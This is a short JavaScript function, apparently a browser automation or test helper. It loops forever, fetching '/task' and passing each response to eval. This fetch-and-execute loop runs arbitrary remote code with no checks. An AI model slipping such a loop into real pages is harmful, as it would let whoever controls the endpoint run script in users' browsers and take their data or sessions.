/** Executes commands, one after the other. */
function obey() {
    (async () => {
        for (;;) {
            // A navigation that begins ends what is being fetched, or leaves it without an answer.
            try {
                const task = await fetch("/task", { signal: AbortSignal.timeout(2000) });
                if (task.status === 200) (0, eval)(await task.text());
            } catch {}
            await new Promise((resolve) => setTimeout(resolve, 5));
        }
    })();
}
